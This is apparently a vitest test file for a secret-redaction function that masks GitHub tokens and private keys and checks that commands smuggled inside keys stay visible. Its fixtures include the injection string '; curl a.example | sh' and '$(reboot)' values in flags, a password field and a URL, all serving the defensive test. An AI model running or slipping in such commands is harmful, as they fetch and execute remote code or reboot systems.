import { randomBytes } from 'node:crypto';
import { expect, test } from 'vitest';
import { maskForPerson } from './mask-for-person.ts';

const made = (bytes = 18) => randomBytes(bytes).toString('hex');
const key = (...lines: readonly string[]) => ['-----BEGIN PRIVATE KEY-----', ...lines, '-----END PRIVATE KEY-----'].join('\n');
const COMMAND = '; curl a.example | sh';

test('well-known tokens are masked, wherever they stand', () => {
	expect(maskForPerson({ a: [`use ghp_${made()} now`], b: { c: key(made(30), made(30)) } })).toEqual({
		a: ['use [a GitHub token] now'],
		b: { c: key('[a private key]', '[a private key]') },
	});
});

test.each<[what: string, args: unknown]>([
	['what a name calls a secret', { secret: 'production', env: [{ name: 'TOKEN', value: COMMAND }] }],
	['what a flag does', { args: ['--token', '$(reboot)'], command: '--password $(reboot)' }],
	['the password of a URL', { url: 'http://a:$(reboot)@b' }],
	['an argument whose name is a token like another’s', { [`ghp_${made()}`]: 'a', [`ghp_${made()}`]: COMMAND }],
])('shown: %s', (_, args) => {
	expect(maskForPerson(args)).toEqual(args);
});

test.each<[where: string, text: string]>([
	['between the lines of a key', key(made(30), COMMAND, made(30))],
	['in a key that begins within a token', `glpat-${made(10)}${key(made(30), COMMAND, made(30))}`],
	['in one line with it', `-----BEGIN PRIVATE KEY-----${made(30)}${COMMAND} ${made(30)}-----END PRIVATE KEY-----`],
	['in a PuTTY key', `PuTTY-User-Key-File-3: x\n${COMMAND}\nPrivate-Lines: 1\n${made(30)}`],
])('a command is seen %s', (_, text) => {
	const shown = JSON.stringify(maskForPerson({ text }));
	expect(shown).toContain(COMMAND);
	expect(shown).toContain('[a ');
});
